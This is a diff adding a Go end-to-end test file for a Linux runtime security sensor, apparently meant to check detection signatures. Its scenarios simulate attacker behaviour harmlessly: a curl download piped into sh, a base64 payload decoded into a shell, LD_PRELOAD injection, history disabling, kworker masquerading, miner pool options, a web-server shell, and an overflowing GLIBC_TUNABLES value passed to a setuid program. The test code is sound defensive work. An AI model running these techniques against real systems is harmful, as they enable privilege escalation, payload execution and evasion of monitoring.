@@ -1,0 +1,180 @@
+package main
+
+import (
+	"encoding/binary"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"syscall"
+	"testing"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/vigil-sec/vigil/sensor/event"
+)
+
+// Behaviours seen at exec: how a program is started, with what name,
+// arguments and environment.
+func init() {
+	scenarios = append(scenarios,
+		scenario{"library injection through LD_PRELOAD", scenarioPreload},
+		scenario{"download piped into a shell", scenarioDownloadPipe},
+		scenario{"encoded payload decoded into a shell", scenarioDecodedPayload},
+		scenario{"shell started with history disabled", scenarioHistoryOff},
+		scenario{"program masquerading as a kernel thread", scenarioMasquerade},
+		scenario{"cryptocurrency miner options", scenarioMiner},
+		scenario{"shell spawned by a web server", scenarioWebShell},
+		scenario{"program executed without argv", scenarioNoArgv},
+		scenario{"capabilities gained through file capabilities", scenarioFileCaps},
+		scenario{"set-user-id program started with GLIBC_TUNABLES", scenarioSetuidTunables},
+	)
+	benignWorkloads = append(benignWorkloads,
+		[]string{"sh", "-c", "echo aGVsbG8K | base64 -d > /dev/null"},
+		[]string{"sh", "-c", "curl -s -o /dev/null http://127.0.0.1:9/ || true"},
+		[]string{"env", "LD_PRELOAD=", "/bin/true"},
+	)
+}
+
+func isExe(path string) func(string) bool { return func(exe string) bool { return exe == path } }
+
+// resolved is the path the kernel reports for a program found on PATH.
+func resolved(t *testing.T, name string) string {
+	t.Helper()
+	p, err := exec.LookPath(name)
+	if err != nil {
+		t.Fatalf("%s is needed: %v", name, err)
+	}
+	if p, err = filepath.EvalSymlinks(p); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// runQuiet runs cmd, which may fail: only that it started matters.
+func runQuiet(t *testing.T, cmd *exec.Cmd) uint32 {
+	t.Helper()
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("%v: %v", cmd.Args, err)
+	}
+	cmd.Wait()
+	return uint32(cmd.Process.Pid)
+}
+
+func shellScenario(t *testing.T, what, sigID, script string) []expectation {
+	sh := resolved(t, "sh")
+	pid := runQuiet(t, exec.Command(sh, "-c", script))
+	return []expectation{{what: what, sigID: sigID, pid: pid, exe: isExe(sh), exeDoc: sh, comm: filepath.Base(sh), event: "sched_process_exec"}}
+}
+
+func scenarioPreload(t *testing.T, _ *e2eEnv) []expectation {
+	tru := resolved(t, "true")
+	cmd := exec.Command(tru)
+	// the library does not exist: the loader complains and runs the program
+	cmd.Env = append(os.Environ(), "LD_PRELOAD="+filepath.Join(t.TempDir(), "libhook.so"))
+	pid := runQuiet(t, cmd)
+	return []expectation{{what: "true started with LD_PRELOAD from a temporary folder", sigID: "loader-env-injection", pid: pid,
+		exe: isExe(tru), exeDoc: tru, comm: "true", event: "sched_process_exec"}}
+}
+
+func scenarioDownloadPipe(t *testing.T, _ *e2eEnv) []expectation {
+	// nothing listens there: the download fails, the command line is the behaviour
+	return shellScenario(t, "curl piped into sh", "download-piped-to-shell", "curl -fsS http://127.0.0.1:9/stage2.sh | sh")
+}
+
+func scenarioDecodedPayload(t *testing.T, _ *e2eEnv) []expectation {
+	return shellScenario(t, "base64 decoded into sh", "decoded-payload-exec", "echo dHJ1ZQo= | base64 -d | sh")
+}
+
+func scenarioHistoryOff(t *testing.T, _ *e2eEnv) []expectation {
+	bash := resolved(t, "bash")
+	cmd := exec.Command(bash, "-c", "true")
+	cmd.Env = append(os.Environ(), "HISTFILE=/dev/null")
+	pid := runQuiet(t, cmd)
+	return []expectation{{what: "bash with HISTFILE=/dev/null", sigID: "shell-history-disabled", pid: pid,
+		exe: isExe(bash), exeDoc: bash, comm: "bash", event: "sched_process_exec"}}
+}
+
+func scenarioMasquerade(t *testing.T, _ *e2eEnv) []expectation {
+	prog := filepath.Join(t.TempDir(), "kworker")
+	copyFile(t, resolved(t, "true"), prog, 0o755)
+	cmd := exec.Command(prog)
+	cmd.Args = []string{"[kworker/0:1-events]"}
+	pid := runQuiet(t, cmd)
+	return []expectation{{what: "a copy of true named kworker, argv[0] [kworker/0:1-events]", sigID: "masquerading-process", pid: pid,
+		exe: isExe(prog), exeDoc: prog, comm: "kworker", event: "sched_process_exec"}}
+}
+
+func scenarioMiner(t *testing.T, _ *e2eEnv) []expectation {
+	prog := filepath.Join(t.TempDir(), "updater")
+	copyFile(t, resolved(t, "true"), prog, 0o755)
+	pid := runQuiet(t, exec.Command(prog, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level=1"))
+	return []expectation{{what: "a program started with a stratum pool", sigID: "crypto-miner-exec", pid: pid,
+		exe: isExe(prog), exeDoc: prog, comm: "updater", event: "sched_process_exec"}}
+}
+
+func scenarioWebShell(t *testing.T, _ *e2eEnv) []expectation {
+	// a shell installed as nginx stands in for the web server; its child
+	// shell is what a web shell runs
+	server := filepath.Join(t.TempDir(), "nginx")
+	copyFile(t, resolved(t, "sh"), server, 0o755)
+	sh := resolved(t, "sh")
+	pid := runQuiet(t, exec.Command(server, "-c", sh+" -c 'id > /dev/null'; true"))
+	return []expectation{{what: "sh started by a process named nginx", sigID: "web-server-shell", ppid: pid,
+		exe: isExe(sh), exeDoc: sh, comm: filepath.Base(sh), event: "sched_process_exec"}}
+}
+
+func scenarioNoArgv(t *testing.T, env *e2eEnv) []expectation {
+	trig := filepath.Join(env.triggers, "noargv")
+	var r struct {
+		Pid uint32 `json:"pid"`
+	}
+	runTrigger(t, exec.Command(trig, resolved(t, "true")), &r)
+	// the execve event is the trigger's own: it has not become true yet
+	return []expectation{{what: "execve with an empty argv", sigID: "exec-without-argv", pid: r.Pid,
+		exe: isExe(trig), exeDoc: trig, comm: "noargv", event: "execve"}}
+}
+
+// vfsCapData is struct vfs_cap_data (VFS_CAP_REVISION_2) with the effective
+// flag: the security.capability attribute setcap writes.
+func vfsCapData(permitted uint64) []byte {
+	b := make([]byte, 20)
+	binary.LittleEndian.PutUint32(b[0:], 0x02000000|1)
+	binary.LittleEndian.PutUint32(b[4:], uint32(permitted))
+	binary.LittleEndian.PutUint32(b[12:], uint32(permitted>>32))
+	return b
+}
+
+func scenarioFileCaps(t *testing.T, _ *e2eEnv) []expectation {
+	prog := installForOthers(t, resolved(t, "true"), "capped")
+	const capSetuid = 7
+	if err := unix.Setxattr(prog, "security.capability", vfsCapData(1<<capSetuid), 0); err != nil {
+		t.Fatalf("giving %s cap_setuid: %v", prog, err)
+	}
+	cmd := exec.Command(prog)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
+	pid := runQuiet(t, cmd)
+	return []expectation{{what: "a program with cap_setuid+ep run by uid 65534", sigID: "capabilities-gained-at-exec", pid: pid,
+		exe: isExe(prog), exeDoc: prog, comm: "capped", event: "commit_creds"}}
+}
+
+func scenarioSetuidTunables(t *testing.T, env *e2eEnv) []expectation {
+	suid := installSetuidRoot(t, filepath.Join(env.triggers, "setuidroot"))
+	cmd := exec.Command(suid)
+	cmd.Env = append(os.Environ(), "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAA")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
+	pid := runQuiet(t, cmd)
+	return []expectation{{what: "set-user-id program with an overflowing GLIBC_TUNABLES, run by uid 65534", sigID: "setuid-loader-env", pid: pid,
+		exe: isExe(suid), exeDoc: suid, comm: "setuidroot", event: "sched_process_exec",
+		also: func(ev *event.Event) bool { return ev.Args["setuid"] == true }}}
+}
+
+func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
+	t.Helper()
+	data, err := os.ReadFile(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(dst, data, mode); err != nil {
+		t.Fatal(err)
+	}
+}
